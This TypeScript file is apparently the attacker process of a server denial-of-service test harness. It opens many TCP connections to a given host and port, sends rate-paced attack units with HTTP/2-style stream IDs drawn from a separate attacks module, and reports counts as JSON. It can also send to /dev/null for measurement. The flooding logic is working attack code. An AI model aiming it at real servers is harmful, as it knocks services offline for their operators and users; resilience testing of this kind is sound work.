/**
 * An attack under way: `attacker.js TARGET NAME KEYS`, TARGET HOST:PORT or `nowhere`, which builds and writes the same
 * bytes at the same rate, but to /dev/null; KEYS as JSON. Says `attacks` once it does, ends on SIGTERM and prints what it
 * did as JSON: an AttackReport.
 */
import { openSync, writeSync } from 'node:fs'
import { connect, type Socket } from 'node:net'
import { type AttackedKeys, attacksOn } from './attacks.js'

/** What an attacker did. */
export interface AttackReport {
  readonly unitCount: number
  /** Connections that the server ended or refused. */
  readonly endedCount: number
  readonly seconds: number
}

/** Connections are opened no faster. */
const CONNECTS_PER_MS = 4
/** What the server does not take is not sent to it. */
const UNSENT_BYTES_MAX = 1 << 20

const [target = '', name = '', keysJson = ''] = process.argv.slice(2)
const attack = attacksOn(JSON.parse(keysJson) as AttackedKeys).find((one) => one.name === name)
if (attack === undefined) throw new Error(`there is no attack ${name}`)
const {
  opening,
  unitsPerSecond,
  unitsMax = Number.POSITIVE_INFINITY,
  isFresh = false,
  isDeaf = false,
} = attack
const [host = '', port = ''] = target.split(':')
const nowhere = target === 'nowhere' ? openSync('/dev/null', 'w') : -1

/** One connection of the attacker. */
class Line {
  unitCount = 0
  isOver = false
  readonly #socket: Socket | undefined
  #streamId = 1
  #out: Buffer[] = [opening]

  constructor() {
    if (nowhere >= 0) return
    this.#socket = connect({ host, port: Number(port), noDelay: true })
    if (!isDeaf) this.#socket.resume()
    this.#socket.on('error', () => {})
    this.#socket.on('close', () => {
      if (!this.isOver) endedCount++
      this.isOver = true
    })
  }

  get isFull(): boolean {
    return this.unitCount >= unitsMax || (this.#socket?.writableLength ?? 0) > UNSENT_BYTES_MAX
  }

  attack(): void {
    this.unitCount++
    this.#out.push(attack!.unit(this.#streamId))
    this.#streamId += 2
  }

  flush(): void {
    if (this.#out.length === 0) return
    const bytes = Buffer.concat(this.#out)
    this.#out = []
    if (this.#socket === undefined) writeSync(nowhere, bytes)
    else if (bytes.length > 0) this.#socket.write(bytes)
  }

  end(): void {
    this.isOver = true
    this.#socket?.destroy()
  }
}

let lines: Line[] = []
let unitCount = 0
let endedCount = 0
let dueCount = 0
let turn = 0
const startedMs = performance.now()
let lastMs = startedMs

/** What is due since the last time, but no arrears: who was held up attacks no harder afterwards. */
function attackOn(): void {
  const nowMs = performance.now()
  dueCount = Math.min(dueCount + ((nowMs - lastMs) * unitsPerSecond) / 1000, unitsPerSecond / 20)
  lastMs = nowMs
  lines = lines.filter(({ isOver }) => !isOver)
  for (let count = 0; count < CONNECTS_PER_MS && lines.length < attack!.connections && !isFresh; count++) {
    lines.push(new Line())
  }
  for (; dueCount >= 1; dueCount--) {
    const line = isFresh ? freshLine() : nextLine()
    if (line === undefined) break
    line.attack()
    unitCount++
  }
  for (const line of lines) line.flush()
}

/** In place of the oldest when there are enough. */
function freshLine(): Line {
  if (lines.length >= attack!.connections) lines.shift()!.end()
  const line = new Line()
  lines.push(line)
  return line
}

function nextLine(): Line | undefined {
  for (let count = 0; count < lines.length; count++) {
    turn = (turn + 1) % lines.length
    if (!lines[turn]!.isFull) return lines[turn]
  }
  return undefined
}

const pacer = setInterval(attackOn, 1)
process.stdout.write('attacks\n')
process.once('SIGTERM', () => {
  clearInterval(pacer)
  for (const line of lines) line.end()
  const seconds = (performance.now() - startedMs) / 1000
  process.stdout.write(JSON.stringify({ unitCount, endedCount, seconds } satisfies AttackReport))
})
